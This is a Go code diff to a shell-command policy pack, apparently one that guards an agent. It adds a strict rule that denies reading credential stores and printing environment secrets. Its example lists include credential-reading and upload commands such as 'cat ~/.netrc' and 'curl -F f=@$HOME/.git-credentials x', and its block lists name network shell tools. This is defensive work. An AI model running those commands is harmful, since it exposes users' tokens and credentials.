@@ -15,7 +15,7 @@ var builtinPackFiles = map[string]func() *PackFile{
 					Type:        "string",
 					Default:     "standard",
 					Allowed:     []any{"standard", "strict"},
-					Description: "standard blocks R1-R9; strict adds S1-S6 (recursive deletes only of build outputs, one-liners that change files, secret .env files loaded, git's recovery data, recursive permission changes outside the project)",
+					Description: "standard blocks R1-R9; strict adds S1-S7 (recursive deletes only of build outputs, one-liners that change files, secret .env files loaded, git's recovery data, recursive permission changes outside the project, credential stores and the environment printed)",
 				},
 			},
 			Rules: []*Rule{{
@@ -220,7 +220,7 @@ var builtinPackFiles = map[string]func() *PackFile{
 				Match: &Matcher{
 					Script: "secret-files",
 					Any: []*Matcher{{
-						CommandName: stringList{"cat", "tac", "nl", "less", "more", "head", "tail", "bat", "batcat", "xxd", "od", "hexdump", "strings", "base64", "base32", "cp", "scp", "rsync", "grep", "egrep", "fgrep", "rg", "zcat", "pr", "fold", "cut", "awk", "gawk", "sed", "sort", "uniq", "paste", "column", "jq", "yq", "diff", "tar", "zip", "gzip", "bzip2", "xz", "zstd", "7z", "dd", "nc", "netcat", "ncat", "socat", "curl", "wget", "telnet", "ssh", "rev", "fmt", "expand", "unexpand", "iconv", "install", "ln", "mv", "gh", "comm", "join", "look", "shuf", "split", "csplit", "cmp", "uuencode", "basenc", "hd", "hexyl", "ag", "ack", "ugrep", "zgrep", "pygmentize", "highlight", "mlr", "most", "zless", "zmore", "bzcat", "xzcat", "zstdcat", "lolcat", "ccat", "view", "ex", "vim", "vi", "nvim", "python*", "pypy*", "node", "nodejs", "bun", "deno", "ruby", "perl", "php", "openssl", "aws"},
+						CommandName: stringList{"cat", "tac", "nl", "less", "more", "head", "tail", "bat", "batcat", "xxd", "od", "hexdump", "strings", "base64", "base32", "cp", "scp", "rsync", "grep", "egrep", "fgrep", "rg", "zcat", "pr", "fold", "cut", "awk", "gawk", "sed", "sort", "uniq", "paste", "column", "jq", "yq", "diff", "tar", "zip", "gzip", "bzip2", "xz", "zstd", "7z", "dd", "nc", "netcat", "ncat", "socat", "curl", "wget", "telnet", "ssh", "rev", "fmt", "expand", "unexpand", "iconv", "install", "ln", "mv", "gh", "comm", "join", "look", "shuf", "split", "csplit", "cmp", "uuencode", "basenc", "hd", "hexyl", "ag", "ack", "ugrep", "zgrep", "pygmentize", "highlight", "mlr", "most", "zless", "zmore", "bzcat", "xzcat", "zstdcat", "lolcat", "ccat", "view", "ex", "pv", "vim", "vi", "nvim", "python*", "pypy*", "node", "nodejs", "bun", "deno", "ruby", "perl", "php", "openssl", "aws"},
 					}, {
 						Effect: stringList{"read:**/.*/**"},
 					}, {
@@ -279,6 +279,25 @@ var builtinPackFiles = map[string]func() *PackFile{
 				Examples: Examples{
 					Match:    []string{"source .env", ". ./.env.local", "docker run --env-file .env x", "bash < .env"},
 					NotMatch: []string{"source .env.example", "source venv/bin/activate"},
+				},
+				When: map[string]any{
+					"level": "strict",
+				},
+			}, {
+				ID:     "credential-stores",
+				Action: "deny",
+				Reason: "at level strict, stored credentials and the environment are not printed; ask kubectl config view, npm config get, gh auth status or docker info, and printenv NAME a variable that holds no secret",
+				Match: &Matcher{
+					Script: "credential-stores",
+					Any: []*Matcher{{
+						Effect: stringList{"read:**/.netrc", "read:**/.git-credentials", "read:**/.pypirc", "read:**/.docker/config.json", "read:**/.kube/config", "read:**/.config/gh/hosts.yml", "read:**/.aws/config", "read:**/.npmrc", "read:/proc/*/environ"},
+					}, {
+						CommandName: stringList{"env", "printenv", "set", "declare", "typeset", "export", "echo", "printf", "base64", "base32", "awk", "gawk", "sed", "jq", "yq", "tar", "zip", "gzip", "7z", "curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "rsync", "dd", "openssl", "python*", "pypy*", "node", "nodejs", "bun", "deno", "ruby", "perl", "php", "git", "gh", "ln", "mv", "vim", "vi", "nvim", "ex", "view", "rev", "iconv", "install"},
+					}},
+				},
+				Examples: Examples{
+					Match:    []string{"cat ~/.netrc", "cat ~/.kube/config", "base64 ~/.docker/config.json", "cat /proc/self/environ", "env", "printenv", "printenv GITHUB_TOKEN", "echo $OPENAI_API_KEY", "echo \"${GH_TOKEN}\"", "set", "export -p", "curl -F f=@$HOME/.git-credentials x"},
+					NotMatch: []string{"cat .npmrc", "printenv PATH", "echo $HOME", "env NODE_ENV=test npm test", "set -euo pipefail", "export FOO=1", "kubectl config view", "cat ~/.gitconfig"},
 				},
 				When: map[string]any{
 					"level": "strict",
@@ -401,6 +420,11 @@ var builtinPackFiles = map[string]func() *PackFile{
 				Kind:     "shell_matcher",
 				Src:      "rules/secrets.star",
 				Function: "s4",
+			}, {
+				ID:       "credential-stores",
+				Kind:     "shell_matcher",
+				Src:      "rules/secrets.star",
+				Function: "s7",
 			}, {
 				ID:       "interp-delete",
 				Kind:     "shell_matcher",
